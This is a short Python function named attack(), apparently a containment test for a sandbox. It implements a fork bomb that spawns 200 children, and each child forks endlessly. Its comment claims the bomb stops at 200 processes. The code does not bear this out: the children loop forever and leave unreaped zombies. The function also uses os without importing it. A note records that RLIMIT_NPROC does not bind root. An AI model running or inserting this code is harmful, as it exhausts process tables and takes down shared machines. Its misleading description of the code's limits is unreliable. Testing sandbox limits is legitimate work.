# A fork bomb, as small as it is known, that stops at 200 processes.
# RLIMIT_NPROC does not bind root, and binds all programs of one user together.
# contained: passed
def attack():
    born = 0
    for _ in range(200):
        try:
            pid = os.fork()
        except OSError:
            continue
        if pid == 0:
            while True:
                os.fork() or os._exit(0)
        born += 1
    return f"{born} processes" if born else None
